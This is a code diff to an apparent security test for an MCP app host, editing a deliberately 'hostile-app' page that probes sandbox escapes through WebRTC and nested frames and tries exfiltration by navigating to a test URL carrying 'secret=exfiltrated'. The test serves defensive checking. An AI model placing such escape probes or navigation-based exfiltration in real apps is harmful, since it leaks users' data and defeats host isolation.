@@ -9,11 +9,15 @@ const MIME = 'text/html;profile=mcp-app';
 /** The app's end of the protocol: request, notify, and the list of outcomes. */
 const PRELUDE = `
 const list = document.getElementById('results');
+let ready;
 const record = (name, outcome) => {
   const item = document.createElement('li');
   item.textContent = name + ': ' + outcome;
   item.dataset.attempt = name;
   list.append(item);
+  // Also told to the host, whose App activity keeps it if this document is replaced (a blocked navigation
+  // leaves an error page in the frame).
+  ready.then(() => notify('notifications/message', { level: 'info', logger: 'hostile-app', data: name + ': ' + outcome }));
 };
 const host = parent;
 let nextId = 1;
@@ -36,7 +40,7 @@ const request = (method, params) => new Promise((resolve) => {
 });
 const notify = (method, params) => host.postMessage({ jsonrpc: '2.0', method, params }, '*');
 const outcome = (answer) => (answer.error ? 'refused (' + answer.error.message + ')' : answer.result && answer.result.isError ? 'refused' : 'done');
-const ready = request('ui/initialize', { protocolVersion: '2026-01-26', appInfo: { name: 'hostile-app', version: '1.0.0' }, appCapabilities: {} })
+ready = request('ui/initialize', { protocolVersion: '2026-01-26', appInfo: { name: 'hostile-app', version: '1.0.0' }, appCapabilities: {} })
   .then(() => notify('ui/notifications/initialized', {}));
 `;
 
@@ -87,17 +91,23 @@ const peer = (name, Peer) => {
 peer('webrtc', window.RTCPeerConnection);
 const frame = document.createElement('iframe');
 document.body.append(frame);
-peer('webrtc, fresh frame', frame.contentWindow.RTCPeerConnection);
+try {
+  peer('webrtc, fresh frame', frame.contentWindow.RTCPeerConnection);
+} catch (error) {
+  record('webrtc, fresh frame', 'refused (' + error.name + ')');
+}
 const nested = document.createElement('iframe');
 nested.srcdoc = '<script>parent.postMessage({ nested: typeof RTCPeerConnection === "function" && (() => { try { new RTCPeerConnection(); return "ALLOWED"; } catch (e) { return "refused (" + e.name + ")"; } })() }, "*")</scr' + 'ipt>';
 window.addEventListener('message', (event) => { if (event.data && event.data.nested) record('webrtc, srcdoc frame', event.data.nested); });
 document.body.append(nested);
-const refresh = document.createElement('meta');
-refresh.httpEquiv = 'refresh';
-refresh.content = '0;url=${assetBase}/navigated-meta?secret=exfiltrated';
-document.head.append(refresh);
-setTimeout(() => { location.href = '${assetBase}/navigated-href?secret=exfiltrated'; }, 300);
-setTimeout(() => record('navigation', 'still here'), 1500);
+// Last, once the outcomes above reached the host: a blocked navigation replaces this document.
+ready.then(() => setTimeout(() => {
+  const refresh = document.createElement('meta');
+  refresh.httpEquiv = 'refresh';
+  refresh.content = '0;url=${assetBase}/navigated-meta?secret=exfiltrated';
+  document.head.append(refresh);
+  location.href = '${assetBase}/navigated-href?secret=exfiltrated';
+}, 1000));
 `,
   );
 });
